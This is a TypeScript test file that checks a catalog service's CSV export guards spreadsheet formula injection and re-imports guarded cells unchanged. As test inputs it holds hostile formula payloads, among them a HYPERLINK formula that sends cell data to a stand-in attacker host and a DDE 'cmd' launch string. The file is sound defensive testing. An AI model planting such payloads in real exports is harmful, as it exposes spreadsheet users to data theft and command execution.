// Issue 13, finding 5: cells starting with = + - @, tab or carriage return went out of the CSV export verbatim, so a
// spreadsheet opening it ran them as formulas. They now go out guarded (OWASP) and still re-import unchanged.
import { describe, expect, it } from 'vitest'
import { csvLine, parseRecord } from '../../workers/catalog/import/csv'
import { catalogSetup, csv, exportText, importAndWait } from './bulk-helpers'
import { api, signUp, unique } from './helpers'

const HEADER = ['sku', 'product_slug', 'product_name', 'description', 'brand', 'tags', 'price', 'currency', 'attr:water_m', 'variant_attr:strap']

describe('CSV formula injection', () => {
  it('guards formula cells in the export and re-imports them unchanged', async () => {
    const source = await signUp()
    await catalogSetup(source)
    const p = unique('fx')
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      description: "+cmd|' /C calc'!A0",
      brand: '@SUM(1+1)*cmd',
      tags: '-2+3|ok',
      strap: "'=already quoted",
    }
    // An upload reads a leading apostrophe before a formula character as a text marker, so the stored strap is `'=…`.
    const rows = [[`${p}-1`, `${p}-one`, hostile.name, hostile.description, hostile.brand, hostile.tags, 100, 'USD', -5, `'${hostile.strap}`]]
    expect((await importAndWait(source, csv(HEADER, rows))).counts.created).toBe(1)

    const exported = await exportText(source, 'csv')
    const line = exported.text.split('\r\n').find((l) => l.startsWith(`${p}-1,`)) ?? ''
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
    expect(line).toContain(`"'+cmd|' /C calc'!A0"`)
    expect(line).toContain(`"'@SUM(1+1)*cmd"`)
    expect(line).toContain(`"'-2+3|ok"`)
    expect(line).toContain(`"''=already quoted"`)
    expect(line).toContain(',-5,')
    for (const cell of parseRawCells(line)) expect({ cell, runs: /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell) }).toEqual({ cell, runs: false })

    const target = await signUp()
    await catalogSetup(target)
    expect((await importAndWait(target, exported.text)).counts.created).toBe(1)
    const copy = await api<{ data: { name: string; description: string; brand: string; tags: string[]; attributes: Record<string, unknown>; variants: { attributes: Record<string, unknown> }[] }[] }>(
      `/v1/products?q=${encodeURIComponent('HYPERLINK')}`,
      { token: target.accessToken },
    )
    const product = copy.body.data[0]
    expect(product).toMatchObject({ name: hostile.name, description: hostile.description, brand: hostile.brand, tags: ['-2+3', 'ok'], attributes: { water_m: -5 } })
    expect(product?.variants[0]?.attributes).toEqual({ strap: hostile.strap })
    expect((await exportText(target, 'csv')).text).toBe(exported.text)
  }, 30_000)

  it('guards tab and carriage-return cells and reads every guarded cell back as it was', () => {
    const values = ['\tTAB', '\r\n=1', '=1+1', '-1', '-1.5', '-x', "'-x", "''@y", 'plain', "'plain", '']
    const line = csvLine(values)
    expect(line.startsWith(`"'\tTAB","'\r\n=1","'=1+1",-1,-1.5,"'-x","''-x","'''@y",plain,'plain,`)).toBe(true)
    expect(parseRecord(line, 0, 1).cells).toEqual(values)
  })
})

/** The cells of one CSV line as a spreadsheet sees them before any formula evaluation (quotes removed, not un-guarded). */
function parseRawCells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => (m[1] ?? '').replace(/^"|"$/g, '').replaceAll('""', '"'))
}
